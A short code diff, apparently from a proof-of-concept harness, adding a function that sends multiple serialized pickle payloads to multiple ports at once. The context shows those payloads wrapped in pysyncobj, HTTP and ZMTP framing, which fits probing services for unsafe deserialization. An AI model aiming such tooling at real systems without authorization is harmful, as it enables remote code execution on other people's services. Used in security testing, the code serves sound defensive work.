@@ -55,6 +55,15 @@ def send_raw(host: str, port: int, data: bytes, timeout: float = 2.0) -> None:
             pass
 
 
+def send_to_all(host: str, ports: list[int], datas: list[bytes]) -> None:
+    """Every payload to every port, all connections at once (each waits up to 2 s for the listener to hang up)."""
+    from concurrent.futures import ThreadPoolExecutor
+
+    jobs = [(port, data) for port in ports for data in datas]
+    with ThreadPoolExecutor(max_workers=len(jobs)) as pool:
+        list(pool.map(lambda job: send_raw(host, *job), jobs))
+
+
 def payloads(path: Path, host: str) -> list[bytes]:
     raw = marker_pickle(path)
     return [raw, pysyncobj_frame(raw), http_request(raw, host), zmtp_greeting() + raw, b"\0" * 4 + raw]
